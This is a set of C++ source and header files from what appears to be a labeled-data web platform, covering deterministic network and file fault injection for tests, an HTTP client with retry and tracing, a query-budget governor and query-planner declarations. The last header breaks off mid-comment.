#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <mutex>

#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::net {

FaultSchedule FaultSchedule::scripted(std::vector<FaultAction> read_actions,
                                      std::vector<FaultAction> write_actions) {
  FaultSchedule schedule;
  schedule.read_actions_ = std::move(read_actions);
  schedule.write_actions_ = std::move(write_actions);
  return schedule;
}

FaultSchedule FaultSchedule::seeded(std::uint64_t seed, Profile profile) {
  FaultSchedule schedule;
  schedule.seeded_ = true;
  schedule.profile_ = profile;
  schedule.rng_ = util::Rng(seed);
  return schedule;
}

FaultAction FaultSchedule::next_scripted(std::vector<FaultAction>& actions,
                                         std::size_t& cursor) {
  if (cursor >= actions.size()) return FaultAction{};
  return actions[cursor++];
}

FaultAction FaultSchedule::draw(bool is_write) {
  // One uniform draw per op, partitioned by cumulative probability, so
  // the op sequence alone (not the buffer contents) determines the fault
  // pattern — the property that makes a seed reproduce a run.
  const double roll = rng_.next_double();
  double edge = profile_.reset_probability;
  if (roll < edge) return FaultAction{FaultKind::kReset};
  edge += profile_.drop_probability;
  if (roll < edge) return FaultAction{FaultKind::kDrop};
  edge += is_write ? profile_.partial_write_probability
                   : profile_.short_read_probability;
  if (roll < edge) {
    FaultAction action;
    action.kind = is_write ? FaultKind::kPartialWrite : FaultKind::kShortRead;
    action.bytes = 1 + static_cast<std::size_t>(rng_.next_below(16));
    return action;
  }
  edge += profile_.delay_probability;
  if (roll < edge) {
    FaultAction action;
    action.kind = FaultKind::kDelay;
    action.delay_micros = rng_.next_range(profile_.min_delay_micros,
                                          profile_.max_delay_micros);
    return action;
  }
  return FaultAction{};
}

FaultAction FaultSchedule::next_read() {
  if (seeded_) return draw(/*is_write=*/false);
  return next_scripted(read_actions_, read_cursor_);
}

FaultAction FaultSchedule::next_write() {
  if (seeded_) return draw(/*is_write=*/true);
  return next_scripted(write_actions_, write_cursor_);
}

FaultyConnection::FaultyConnection(std::unique_ptr<Connection> inner,
                                   FaultSchedule schedule, SleepFn sleep,
                                   FaultStats* stats)
    : inner_(std::move(inner)),
      schedule_(std::move(schedule)),
      sleep_(std::move(sleep)),
      stats_(stats) {}

util::Result<std::size_t> FaultyConnection::read(char* buf, std::size_t max) {
  const FaultAction action = schedule_.next_read();
  switch (action.kind) {
    case FaultKind::kDelay:
      if (stats_ != nullptr) stats_->delays.fetch_add(1);
      sleep_(action.delay_micros);
      break;
    case FaultKind::kShortRead:
      if (stats_ != nullptr) stats_->short_reads.fetch_add(1);
      max = std::min(max, std::max<std::size_t>(action.bytes, 1));
      break;
    case FaultKind::kDrop:
      // A lost segment: the bytes never arrive, the reader times out.
      if (stats_ != nullptr) stats_->drops.fetch_add(1);
      return util::make_error("net.timeout", "injected read drop");
    case FaultKind::kReset:
      if (stats_ != nullptr) stats_->resets.fetch_add(1);
      inner_->close();
      return util::make_error("net.reset", "injected connection reset");
    case FaultKind::kNone:
    case FaultKind::kPartialWrite:  // write-only kind; clean on reads
      break;
  }
  return inner_->read(buf, max);
}

util::Status FaultyConnection::write(std::string_view data) {
  const FaultAction action = schedule_.next_write();
  switch (action.kind) {
    case FaultKind::kDelay:
      if (stats_ != nullptr) stats_->delays.fetch_add(1);
      sleep_(action.delay_micros);
      break;
    case FaultKind::kPartialWrite: {
      // Some bytes hit the wire, then the connection dies — the hard
      // case for peers that assume writes are atomic.
      if (stats_ != nullptr) stats_->partial_writes.fetch_add(1);
      const std::size_t n = std::min(data.size(), action.bytes);
      (void)inner_->write(data.substr(0, n));
      inner_->close();
      return util::make_error("net.reset", "injected reset mid-write");
    }
    case FaultKind::kDrop:
      // Silently swallowed; the peer simply never sees these bytes.
      if (stats_ != nullptr) stats_->drops.fetch_add(1);
      return util::ok_status();
    case FaultKind::kReset:
      if (stats_ != nullptr) stats_->resets.fetch_add(1);
      inner_->close();
      return util::make_error("net.reset", "injected connection reset");
    case FaultKind::kNone:
    case FaultKind::kShortRead:  // read-only kind; clean on writes
      break;
  }
  return inner_->write(data);
}

util::Result<std::size_t> FaultyConnection::write_some(std::string_view data) {
  const FaultAction action = schedule_.next_write();
  switch (action.kind) {
    case FaultKind::kDelay:
      if (stats_ != nullptr) stats_->delays.fetch_add(1);
      sleep_(action.delay_micros);
      break;
    case FaultKind::kPartialWrite: {
      if (stats_ != nullptr) stats_->partial_writes.fetch_add(1);
      const std::size_t n = std::min(data.size(), action.bytes);
      (void)inner_->write_some(data.substr(0, n));
      inner_->close();
      return util::make_error("net.reset", "injected reset mid-write");
    }
    case FaultKind::kDrop:
      if (stats_ != nullptr) stats_->drops.fetch_add(1);
      return data.size();  // swallowed, reported as written
    case FaultKind::kReset:
      if (stats_ != nullptr) stats_->resets.fetch_add(1);
      inner_->close();
      return util::make_error("net.reset", "injected connection reset");
    case FaultKind::kNone:
    case FaultKind::kShortRead:  // read-only kind; clean on writes
      break;
  }
  return inner_->write_some(data);
}

// ---- File I/O faults -------------------------------------------------------

struct FileFaultPlan::State {
  util::Mutex mutex{util::lockrank::kFileFault, "State::mutex"};
  bool seeded W5_GUARDED_BY(mutex) = false;
  FileFaultProfile profile W5_GUARDED_BY(mutex) {};
  util::Rng rng W5_GUARDED_BY(mutex) {0};
  // Crash/error points index cumulative attempted bytes.
  std::uint64_t crash_offset W5_GUARDED_BY(mutex) = UINT64_MAX;
  std::uint64_t error_offset W5_GUARDED_BY(mutex) = UINT64_MAX;
  std::uint64_t attempted W5_GUARDED_BY(mutex) = 0;
  FileFaultStats stats W5_GUARDED_BY(mutex);
};

FileFaultPlan::FileFaultPlan() : state_(std::make_shared<State>()) {}

FileFaultPlan FileFaultPlan::crash_at(std::uint64_t offset) {
  FileFaultPlan plan;
  const util::MutexLock lock(plan.state_->mutex);
  plan.state_->crash_offset = offset;
  return plan;
}

FileFaultPlan FileFaultPlan::error_at(std::uint64_t offset) {
  FileFaultPlan plan;
  const util::MutexLock lock(plan.state_->mutex);
  plan.state_->error_offset = offset;
  return plan;
}

FileFaultPlan FileFaultPlan::seeded(std::uint64_t seed,
                                    FileFaultProfile profile) {
  FileFaultPlan plan;
  const util::MutexLock lock(plan.state_->mutex);
  plan.state_->seeded = true;
  plan.state_->profile = profile;
  plan.state_->rng = util::Rng(seed);
  return plan;
}

FileFaultPlan FileFaultPlan::seeded_crash(std::uint64_t seed,
                                          FileFaultProfile profile,
                                          std::uint64_t crash_offset) {
  FileFaultPlan plan = seeded(seed, profile);
  const util::MutexLock lock(plan.state_->mutex);
  plan.state_->crash_offset = crash_offset;
  return plan;
}

std::size_t FileFaultPlan::admit_write(std::size_t requested) {
  State& s = *state_;
  const util::MutexLock lock(s.mutex);
  std::size_t admitted = requested;
  if (s.seeded && requested > 1 &&
      s.rng.next_double() < s.profile.short_write_probability) {
    ++s.stats.short_writes;
    admitted = 1 + static_cast<std::size_t>(s.rng.next_below(std::min(
                       static_cast<std::uint64_t>(requested),
                       static_cast<std::uint64_t>(std::max<std::size_t>(
                           s.profile.max_short_write_bytes, 1)))));
  }
  // The crash point indexes *persisted* logical bytes: short-written
  // remainders are retried (not lost), so they advance nothing here and a
  // test can enumerate crash offsets straight off frame boundaries.
  if (s.attempted + admitted > s.crash_offset) {
    admitted = s.crash_offset > s.attempted
                   ? static_cast<std::size_t>(s.crash_offset - s.attempted)
                   : 0;
    s.stats.crashed = true;
    s.stats.dropped_bytes += requested - admitted;
  }
  // The error point truncates like the crash point, but is *reported*:
  // write_all persists the prefix, then surfaces the failure.
  if (s.attempted + admitted > s.error_offset) {
    admitted = s.error_offset > s.attempted
                   ? static_cast<std::size_t>(s.error_offset - s.attempted)
                   : 0;
    s.stats.write_errored = true;
  }
  s.attempted += admitted;
  return admitted;
}

bool FileFaultPlan::crashed() const {
  const util::MutexLock lock(state_->mutex);
  return state_->stats.crashed;
}

bool FileFaultPlan::write_errored() const {
  const util::MutexLock lock(state_->mutex);
  return state_->stats.write_errored;
}

FileFaultStats FileFaultPlan::stats() const {
  const util::MutexLock lock(state_->mutex);
  return state_->stats;
}

FaultyFile::~FaultyFile() { close(); }

FaultyFile::FaultyFile(FaultyFile&& other) noexcept
    : fd_(other.fd_), persisted_(other.persisted_), plan_(other.plan_) {
  other.fd_ = -1;
}

FaultyFile& FaultyFile::operator=(FaultyFile&& other) noexcept {
  if (this != &other) {
    close();
    fd_ = other.fd_;
    persisted_ = other.persisted_;
    plan_ = other.plan_;
    other.fd_ = -1;
  }
  return *this;
}

util::Result<FaultyFile> FaultyFile::open_with_flags(const std::string& path,
                                                     int flags,
                                                     FileFaultPlan plan) {
  const int fd = ::open(path.c_str(), flags, 0644);
  if (fd < 0) {
    return util::make_error("io.open", "cannot open '" + path + "': " +
                                           std::strerror(errno));
  }
  FaultyFile file;
  file.fd_ = fd;
  file.plan_ = std::move(plan);
  return file;
}

util::Result<FaultyFile> FaultyFile::create(const std::string& path,
                                            FileFaultPlan plan) {
  return open_with_flags(path, O_WRONLY | O_CREAT | O_TRUNC, std::move(plan));
}

util::Result<FaultyFile> FaultyFile::open_append(const std::string& path,
                                                 FileFaultPlan plan) {
  return open_with_flags(path, O_WRONLY | O_CREAT | O_APPEND,
                         std::move(plan));
}

util::Status FaultyFile::write_all(std::string_view data) {
  if (fd_ < 0) return util::make_error("io.write", "file not open");
  while (!data.empty()) {
    const std::size_t admitted = plan_.admit_write(data.size());
    if (admitted > 0) {
      std::string_view chunk = data.substr(0, admitted);
      while (!chunk.empty()) {
        const ssize_t n = ::write(fd_, chunk.data(), chunk.size());
        if (n < 0) {
          if (errno == EINTR) continue;
          return util::make_error("io.write", std::strerror(errno));
        }
        persisted_ += static_cast<std::uint64_t>(n);
        chunk.remove_prefix(static_cast<std::size_t>(n));
      }
    }
    if (plan_.write_errored())
      return util::make_error("io.write", "injected write error");
    if (plan_.crashed()) return util::ok_status();  // rest is "lost"
    data.remove_prefix(admitted);
  }
  return util::ok_status();
}

util::Status FaultyFile::sync() {
  if (fd_ < 0) return util::make_error("io.sync", "file not open");
  if (plan_.crashed()) return util::ok_status();  // never reached in reality
  if (::fsync(fd_) != 0)
    return util::make_error("io.sync", std::strerror(errno));
  return util::ok_status();
}

void FaultyFile::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

void FaultyConnection::close() { inner_->close(); }

bool FaultyConnection::closed() const { return inner_->closed(); }

void FaultyConnection::set_read_timeout(util::Micros timeout) {
  inner_->set_read_timeout(timeout);
}

void FaultyConnection::set_write_timeout(util::Micros timeout) {
  inner_->set_write_timeout(timeout);
}

}  // namespace w5::net
