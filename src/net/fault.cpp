#include "net/fault.h"

#include <algorithm>

namespace w5::net {

FaultSchedule FaultSchedule::scripted(std::vector<FaultAction> read_actions,
                                      std::vector<FaultAction> write_actions) {
  FaultSchedule schedule;
  schedule.read_actions_ = std::move(read_actions);
  schedule.write_actions_ = std::move(write_actions);
  return schedule;
}

FaultSchedule FaultSchedule::seeded(std::uint64_t seed, Profile profile) {
  FaultSchedule schedule;
  schedule.seeded_ = true;
  schedule.profile_ = profile;
  schedule.rng_ = util::Rng(seed);
  return schedule;
}

FaultAction FaultSchedule::next_scripted(std::vector<FaultAction>& actions,
                                         std::size_t& cursor) {
  if (cursor >= actions.size()) return FaultAction{};
  return actions[cursor++];
}

FaultAction FaultSchedule::draw(bool is_write) {
  // One uniform draw per op, partitioned by cumulative probability, so
  // the op sequence alone (not the buffer contents) determines the fault
  // pattern — the property that makes a seed reproduce a run.
  const double roll = rng_.next_double();
  double edge = profile_.reset_probability;
  if (roll < edge) return FaultAction{FaultKind::kReset};
  edge += profile_.drop_probability;
  if (roll < edge) return FaultAction{FaultKind::kDrop};
  edge += is_write ? profile_.partial_write_probability
                   : profile_.short_read_probability;
  if (roll < edge) {
    FaultAction action;
    action.kind = is_write ? FaultKind::kPartialWrite : FaultKind::kShortRead;
    action.bytes = 1 + static_cast<std::size_t>(rng_.next_below(16));
    return action;
  }
  edge += profile_.delay_probability;
  if (roll < edge) {
    FaultAction action;
    action.kind = FaultKind::kDelay;
    action.delay_micros = rng_.next_range(profile_.min_delay_micros,
                                          profile_.max_delay_micros);
    return action;
  }
  return FaultAction{};
}

FaultAction FaultSchedule::next_read() {
  if (seeded_) return draw(/*is_write=*/false);
  return next_scripted(read_actions_, read_cursor_);
}

FaultAction FaultSchedule::next_write() {
  if (seeded_) return draw(/*is_write=*/true);
  return next_scripted(write_actions_, write_cursor_);
}

FaultyConnection::FaultyConnection(std::unique_ptr<Connection> inner,
                                   FaultSchedule schedule, SleepFn sleep,
                                   FaultStats* stats)
    : inner_(std::move(inner)),
      schedule_(std::move(schedule)),
      sleep_(std::move(sleep)),
      stats_(stats) {}

util::Result<std::size_t> FaultyConnection::read(char* buf, std::size_t max) {
  const FaultAction action = schedule_.next_read();
  switch (action.kind) {
    case FaultKind::kDelay:
      if (stats_ != nullptr) stats_->delays.fetch_add(1);
      sleep_(action.delay_micros);
      break;
    case FaultKind::kShortRead:
      if (stats_ != nullptr) stats_->short_reads.fetch_add(1);
      max = std::min(max, std::max<std::size_t>(action.bytes, 1));
      break;
    case FaultKind::kDrop:
      // A lost segment: the bytes never arrive, the reader times out.
      if (stats_ != nullptr) stats_->drops.fetch_add(1);
      return util::make_error("net.timeout", "injected read drop");
    case FaultKind::kReset:
      if (stats_ != nullptr) stats_->resets.fetch_add(1);
      inner_->close();
      return util::make_error("net.reset", "injected connection reset");
    case FaultKind::kNone:
    case FaultKind::kPartialWrite:  // write-only kind; clean on reads
      break;
  }
  return inner_->read(buf, max);
}

util::Status FaultyConnection::write(std::string_view data) {
  const FaultAction action = schedule_.next_write();
  switch (action.kind) {
    case FaultKind::kDelay:
      if (stats_ != nullptr) stats_->delays.fetch_add(1);
      sleep_(action.delay_micros);
      break;
    case FaultKind::kPartialWrite: {
      // Some bytes hit the wire, then the connection dies — the hard
      // case for peers that assume writes are atomic.
      if (stats_ != nullptr) stats_->partial_writes.fetch_add(1);
      const std::size_t n = std::min(data.size(), action.bytes);
      (void)inner_->write(data.substr(0, n));
      inner_->close();
      return util::make_error("net.reset", "injected reset mid-write");
    }
    case FaultKind::kDrop:
      // Silently swallowed; the peer simply never sees these bytes.
      if (stats_ != nullptr) stats_->drops.fetch_add(1);
      return util::ok_status();
    case FaultKind::kReset:
      if (stats_ != nullptr) stats_->resets.fetch_add(1);
      inner_->close();
      return util::make_error("net.reset", "injected connection reset");
    case FaultKind::kNone:
    case FaultKind::kShortRead:  // read-only kind; clean on writes
      break;
  }
  return inner_->write(data);
}

void FaultyConnection::close() { inner_->close(); }

bool FaultyConnection::closed() const { return inner_->closed(); }

void FaultyConnection::set_read_timeout(util::Micros timeout) {
  inner_->set_read_timeout(timeout);
}

void FaultyConnection::set_write_timeout(util::Micros timeout) {
  inner_->set_write_timeout(timeout);
}

}  // namespace w5::net
