// Minimal HTTP/1.1 client: one round trip over an existing Connection.
// Used by tests, the federation sync protocol, and the examples.
#pragma once

#include "net/http.h"
#include "net/http_parser.h"
#include "net/transport.h"
#include "util/result.h"

namespace w5::net {

class HttpClient {
 public:
  explicit HttpClient(ParserLimits limits = {}) : limits_(limits) {}

  // Writes the request and reads one response. With the in-memory
  // transport the server must have already produced the response bytes
  // (InMemoryNetwork accept handlers serve synchronously).
  util::Result<HttpResponse> roundtrip(Connection& connection,
                                       const HttpRequest& request);

 private:
  ParserLimits limits_;
};

}  // namespace w5::net
