// Minimal HTTP/1.1 client: one round trip over an existing Connection,
// plus a retrying variant (exponential backoff + jitter) that re-dials
// through a connection factory. Used by tests, the federation sync
// protocol, and the examples.
#pragma once

#include <memory>
#include <vector>

#include "net/backoff.h"
#include "net/http.h"
#include "net/http_parser.h"
#include "net/transport.h"
#include "util/result.h"

namespace w5::net {

// Dials a fresh connection per attempt (retries never reuse a socket
// that already failed mid-exchange).
using ConnectionFactory =
    std::function<util::Result<std::unique_ptr<Connection>>()>;

class HttpClient {
 public:
  // What a retried exchange did, for tests and telemetry.
  struct RetryStats {
    int attempts = 0;
    std::vector<util::Micros> delays;  // backoff waited before each retry
  };

  explicit HttpClient(ParserLimits limits = {}) : limits_(limits) {}

  // Writes the request and reads one response. With the in-memory
  // transport the server must have already produced the response bytes
  // (InMemoryNetwork accept handlers serve synchronously).
  util::Result<HttpResponse> roundtrip(Connection& connection,
                                       const HttpRequest& request);

  // roundtrip with retry: dials via `factory`, retries transport-level
  // failures (net.io/net.timeout/net.reset/net.unreachable/
  // http.incomplete) and 503 responses, sleeping the backoff delay (or
  // the server's Retry-After, whichever is longer) between attempts.
  // Non-retryable errors and non-503 responses return immediately; an
  // exhausted budget returns the last error (or the last 503 response —
  // it is a valid answer, just a negative one).
  util::Result<HttpResponse> roundtrip_with_retry(
      const ConnectionFactory& factory, const HttpRequest& request,
      const RetryPolicy& policy, const SleepFn& sleep = real_sleep(),
      RetryStats* stats = nullptr);

 private:
  // Reads one full response off the connection (shared by the stamped
  // and pass-through write paths in roundtrip()).
  util::Result<HttpResponse> read_response(Connection& connection);

  ParserLimits limits_;
};

}  // namespace w5::net
