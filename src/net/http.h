// HTTP/1.1 message model: methods, status codes, headers, request and
// response values. Wire parsing lives in http_parser.h; serialization in
// the to_wire() methods here.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "net/uri.h"

namespace w5::net {

enum class Method : std::uint8_t {
  kGet,
  kHead,
  kPost,
  kPut,
  kDelete,
  kOptions,
  kPatch,
};

std::string_view to_string(Method method);
std::optional<Method> method_from_string(std::string_view s);

// Canonical reason phrases for the codes the platform emits.
std::string_view status_reason(int status);

// Ordered multimap with case-insensitive names (RFC 9110 §5.1).
class Headers {
 public:
  void add(std::string name, std::string value);
  void set(std::string name, std::string value);  // replaces all
  void remove(std::string_view name);

  std::optional<std::string> get(std::string_view name) const;
  std::vector<std::string> get_all(std::string_view name) const;
  bool contains(std::string_view name) const;

  std::size_t size() const noexcept { return entries_.size(); }
  const std::vector<std::pair<std::string, std::string>>& entries() const {
    return entries_;
  }

 private:
  std::vector<std::pair<std::string, std::string>> entries_;
};

struct HttpRequest {
  Method method = Method::kGet;
  std::string target = "/";  // raw request target as received/sent
  Headers headers;
  std::string body;

  // Filled by the parser (or parse_request_target) from `target`.
  RequestTarget parsed;

  // Serializes to wire form, adding Content-Length and Host (if absent).
  std::string to_wire() const;
};

struct HttpResponse {
  int status = 200;
  Headers headers;
  std::string body;

  std::string to_wire() const;  // adds Content-Length

  // Status line + headers + blank line only (Content-Length included):
  // the reactor writes head and body as one writev(2) scatter/gather
  // call instead of materializing a concatenated response buffer.
  std::string to_wire_head() const;

  // Convenience constructors used across the platform and apps.
  static HttpResponse text(int status, std::string body);
  static HttpResponse html(int status, std::string body);
  static HttpResponse json(int status, std::string body);
  static HttpResponse redirect(std::string location);
};

}  // namespace w5::net
