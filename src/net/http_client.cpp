#include "net/http_client.h"

#include <algorithm>

#include "util/strings.h"

namespace w5::net {

util::Result<HttpResponse> HttpClient::roundtrip(Connection& connection,
                                                 const HttpRequest& request) {
  if (auto written = connection.write(request.to_wire()); !written.ok())
    return written.error();

  ResponseParser parser(limits_);
  char buf[8192];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) return n.error();
    if (n.value() == 0)
      return util::make_error("http.incomplete", "EOF before full response");
    parser.feed(std::string_view(buf, n.value()));
  }
  if (parser.failed()) return parser.error();
  return parser.take();
}

util::Result<HttpResponse> HttpClient::roundtrip_with_retry(
    const ConnectionFactory& factory, const HttpRequest& request,
    const RetryPolicy& policy, const SleepFn& sleep, RetryStats* stats) {
  Backoff backoff(policy);
  util::Result<HttpResponse> last =
      util::make_error("net.retry", "no attempts made");
  while (true) {
    if (stats != nullptr) ++stats->attempts;
    auto connection = factory();
    if (connection.ok()) {
      last = roundtrip(*connection.value(), request);
    } else {
      last = connection.error();
    }

    util::Micros server_hint = 0;  // Retry-After, when the server set one
    bool retryable;
    if (last.ok()) {
      retryable = last.value().status == 503;
      if (retryable) {
        const auto header = last.value().headers.get("Retry-After");
        if (header) {
          if (const auto seconds = util::parse_u64(*header); seconds)
            server_hint = static_cast<util::Micros>(*seconds) * 1'000'000;
        }
      }
    } else {
      retryable = retryable_error(last.error());
    }
    if (!retryable) return last;

    const util::Micros delay = backoff.next_delay();
    if (backoff.exhausted()) return last;
    // Respect the server's own pacing, but never beyond the policy cap —
    // a hostile Retry-After must not park the client for an hour.
    const util::Micros wait =
        std::min(std::max(delay, server_hint), policy.max_backoff);
    if (stats != nullptr) stats->delays.push_back(wait);
    sleep(wait);
  }
}

}  // namespace w5::net
