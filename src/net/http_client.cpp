#include "net/http_client.h"

#include <algorithm>

#include "net/tracing.h"
#include "util/strings.h"

namespace w5::net {

util::Result<HttpResponse> HttpClient::roundtrip(Connection& connection,
                                                 const HttpRequest& request) {
  // Cross-hop trace propagation (DESIGN.md §16): stamp the active
  // request's trace context unless the caller already did. The copy is
  // taken only when a stamp is needed, so untraced round trips (no
  // context installed) stay allocation-identical to before.
  TraceHeaders trace;
  if (!request.headers.contains(kTraceHeader) &&
      outbound_trace_headers(&trace) && valid_trace_token(trace.trace_id)) {
    HttpRequest stamped = request;
    stamped.headers.set(std::string(kTraceHeader), trace.trace_id);
    if (!trace.parent_span.empty())
      stamped.headers.set(std::string(kParentHeader), trace.parent_span);
    stamped.headers.set(std::string(kSampledHeader),
                        trace.sampled ? "1" : "0");
    if (auto written = connection.write(stamped.to_wire()); !written.ok())
      return written.error();
    return read_response(connection);
  }
  if (auto written = connection.write(request.to_wire()); !written.ok())
    return written.error();
  return read_response(connection);
}

util::Result<HttpResponse> HttpClient::read_response(Connection& connection) {

  ResponseParser parser(limits_);
  char buf[8192];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) return n.error();
    if (n.value() == 0)
      return util::make_error("http.incomplete", "EOF before full response");
    parser.feed(std::string_view(buf, n.value()));
  }
  if (parser.failed()) return parser.error();
  return parser.take();
}

util::Result<HttpResponse> HttpClient::roundtrip_with_retry(
    const ConnectionFactory& factory, const HttpRequest& request,
    const RetryPolicy& policy, const SleepFn& sleep, RetryStats* stats) {
  Backoff backoff(policy);
  util::Result<HttpResponse> last =
      util::make_error("net.retry", "no attempts made");
  while (true) {
    if (stats != nullptr) ++stats->attempts;
    auto connection = factory();
    if (connection.ok()) {
      last = roundtrip(*connection.value(), request);
    } else {
      last = connection.error();
    }

    util::Micros server_hint = 0;  // Retry-After, when the server set one
    bool retryable;
    if (last.ok()) {
      retryable = last.value().status == 503;
      if (retryable) {
        const auto header = last.value().headers.get("Retry-After");
        if (header) {
          if (const auto seconds = util::parse_u64(*header); seconds)
            server_hint = static_cast<util::Micros>(*seconds) * 1'000'000;
        }
      }
    } else {
      retryable = retryable_error(last.error());
    }
    if (!retryable) return last;

    const util::Micros delay = backoff.next_delay();
    if (backoff.exhausted()) return last;
    // Respect the server's own pacing, but never beyond the policy cap —
    // a hostile Retry-After must not park the client for an hour.
    const util::Micros wait =
        std::min(std::max(delay, server_hint), policy.max_backoff);
    if (stats != nullptr) stats->delays.push_back(wait);
    sleep(wait);
  }
}

}  // namespace w5::net
