#include "net/http_client.h"

namespace w5::net {

util::Result<HttpResponse> HttpClient::roundtrip(Connection& connection,
                                                 const HttpRequest& request) {
  if (auto written = connection.write(request.to_wire()); !written.ok())
    return written.error();

  ResponseParser parser(limits_);
  char buf[8192];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) return n.error();
    if (n.value() == 0)
      return util::make_error("http.incomplete", "EOF before full response");
    parser.feed(std::string_view(buf, n.value()));
  }
  if (parser.failed()) return parser.error();
  return parser.take();
}

}  // namespace w5::net
