#include "store/query_governor.h"

namespace w5::store {

void QueryGovernor::configure(const QueryGovernorConfig& config) {
  quantum_.store(config.count_quantum == 0 ? 1 : config.count_quantum,
                 std::memory_order_relaxed);
  budget_.store(config.budget_queries, std::memory_order_relaxed);
  const util::MutexLock lock(mutex_);
  window_micros_ =
      config.budget_window_micros <= 0 ? 1 : config.budget_window_micros;
  windows_.clear();
}

util::Status QueryGovernor::admit(const std::string& principal) {
  const std::uint64_t budget = budget_.load(std::memory_order_relaxed);
  // Anonymous callers (trusted front-end, internal scans) and disabled
  // budgets never touch the lock — metering costs nothing until a
  // provider turns it on.
  if (budget == 0 || principal.empty()) return util::ok_status();

  const util::Micros now = clock_.now();
  const util::MutexLock lock(mutex_);
  auto [it, inserted] = windows_.try_emplace(principal);
  Window& window = it->second;
  if (inserted || now - window.start >= window_micros_) {
    window.start = now;
    window.used = 0;
  }
  if (window.used >= budget) {
    ++denied_;
    return util::make_error("store.query_budget",
                            "query budget exhausted for '" + principal + "'");
  }
  ++window.used;
  ++admitted_;
  // Bound the table: a hostile app minting principals must not grow
  // memory without bound. Dropping expired windows is safe (a dropped
  // window resets to a fresh budget — slop, not a leak).
  if (windows_.size() > kMaxPrincipals) {
    for (auto w = windows_.begin(); w != windows_.end();) {
      if (w != it && now - w->second.start >= window_micros_)
        w = windows_.erase(w);
      else
        ++w;
    }
  }
  return util::ok_status();
}

std::size_t QueryGovernor::quantize(std::size_t count) const {
  const std::size_t quantum = quantum_.load(std::memory_order_relaxed);
  if (quantum <= 1 || count == 0) return count;
  return ((count + quantum - 1) / quantum) * quantum;
}

QueryGovernor::Stats QueryGovernor::stats() const {
  Stats out;
  out.count_quantum = quantum_.load(std::memory_order_relaxed);
  out.budget_queries = budget_.load(std::memory_order_relaxed);
  const util::MutexLock lock(mutex_);
  out.admitted = admitted_;
  out.denied = denied_;
  out.principals = windows_.size();
  return out;
}

}  // namespace w5::store
