// Plain-struct query-engine statistics (DESIGN.md §17).
//
// Deliberately record-free: this header carries only counters and config
// echoes, so telemetry/debug surfaces (statusz, /metrics) can render
// index and planner health without ever being one include away from user
// data bytes (w5lint's §3.5 telemetry rule bans store/record.h AND
// store/labeled_store.h in telemetry files; this header is the sanctioned
// stats hand-off).
#pragma once

#include <cstddef>
#include <cstdint>

namespace w5::store {

struct QueryEngineStats {
  // Planner access-path choices, counted per shard visit (a single query
  // increments one of these up to kShardCount times).
  std::uint64_t plans_field = 0;  // field-value posting list
  std::uint64_t plans_owner = 0;  // owner posting list
  std::uint64_t plans_scan = 0;   // label-grouped ordered scan

  // Label-set posting-list clearance checks: one memoized subset check
  // per (group, shard, query). Skipped groups are records the engine
  // never touched at all — the §3.5-friendly fast path.
  std::uint64_t label_groups_checked = 0;
  std::uint64_t label_groups_skipped = 0;

  std::uint64_t cursor_resumes = 0;  // queries resumed from a page cursor

  // Index inventory (gauges, sampled under shard read locks).
  std::size_t registered_indexes = 0;  // IndexSpec count
  std::size_t field_postings = 0;      // distinct (field,value) lists
  std::size_t label_postings = 0;      // distinct secrecy-label lists
  std::size_t owner_postings = 0;      // distinct owner lists

  // Covert-channel governor (DESIGN.md §17, §3.5).
  std::uint64_t queries_admitted = 0;
  std::uint64_t queries_denied = 0;   // store.query_budget errors issued
  std::size_t budget_principals = 0;  // live metering windows
  std::size_t count_quantum = 1;      // 1 = exact counts
  std::uint64_t budget_queries = 0;   // 0 = unmetered
};

}  // namespace w5::store
