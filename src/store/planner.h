// The query planner (DESIGN.md §17): picks an access path per query and
// lets the engine refine it per shard.
//
// There are exactly three paths, in cost order for their sweet spots:
//
//   kFieldIndex   equality on a registered (collection, field) index —
//                 point lookups; the posting list IS the candidate set.
//   kOwnerIndex   non-empty options.owner — one posting list per shard.
//   kLabelScan    everything else: the ordered scan, driven through the
//                 per-label posting groups so clearance is checked once
//                 per label set instead of once per record.
//
// The planner is deliberately tiny and deterministic: with no cardinality
// statistics, the only runtime refinement is per shard — when both the
// owner and field lists apply, the engine walks whichever posting list is
// shorter in that shard and applies the other constraint as a filter.
// Whatever path runs, the engine applies every constraint (visibility,
// owner, equality, range, predicate), so a plan can never change results,
// only cost.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "store/index.h"

namespace w5::store {

struct QueryOptions;  // labeled_store.h

enum class PlanKind : std::uint8_t { kLabelScan, kOwnerIndex, kFieldIndex };

const char* plan_kind_name(PlanKind kind);

struct QueryPlan {
  PlanKind kind = PlanKind::kLabelScan;
  // kFieldIndex: the indexed equality constraint.
  std::string field;
  std::string value;
  // True when both owner and field postings apply; the engine compares
  // per-shard posting sizes and may demote kFieldIndex to kOwnerIndex.
  bool owner_alternative = false;
};

// Pure function of the options and the registered index specs.
// options.planner == PlannerMode::kScanOnly forces kLabelScan (the
// bench/test hook that prices the index against the honest scan).
QueryPlan plan_query(const std::string& collection,
                     const QueryOptions& options,
                     const std::vector<IndexSpec>& specs);

}  // namespace w5::store
