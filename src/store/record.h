// Records: the unit of labeled structured storage.
//
// W5 commingles many users' data in one store (paper Fig. 2); every
// record carries its own ObjectLabels, so policy travels with the data
// ("users ... attach these policies to their data so that the policies
// applied across applications", §1).
#pragma once

#include <cstdint>
#include <string>

#include "difc/flow.h"
#include "util/clock.h"
#include "util/json.h"

namespace w5::store {

struct Record {
  std::string collection;  // e.g. "photos", "posts", "friends"
  std::string id;          // unique within the collection
  std::string owner;       // owning user id (metadata, not enforcement)
  difc::ObjectLabels labels;
  util::Json data;

  std::uint64_t version = 1;         // bumped on every put
  util::Micros updated_micros = 0;

  util::Json to_json() const;
  static util::Result<Record> from_json(const util::Json& j);
};

}  // namespace w5::store
