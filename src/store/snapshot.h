// Labeled snapshots for the durability plane (DESIGN.md §13).
//
// A snapshot is the full provider state — records, filesystem nodes, tag
// registry, policies, and accounts, every one with its serialized
// ObjectLabels — captured at a WAL rotation boundary R and written as
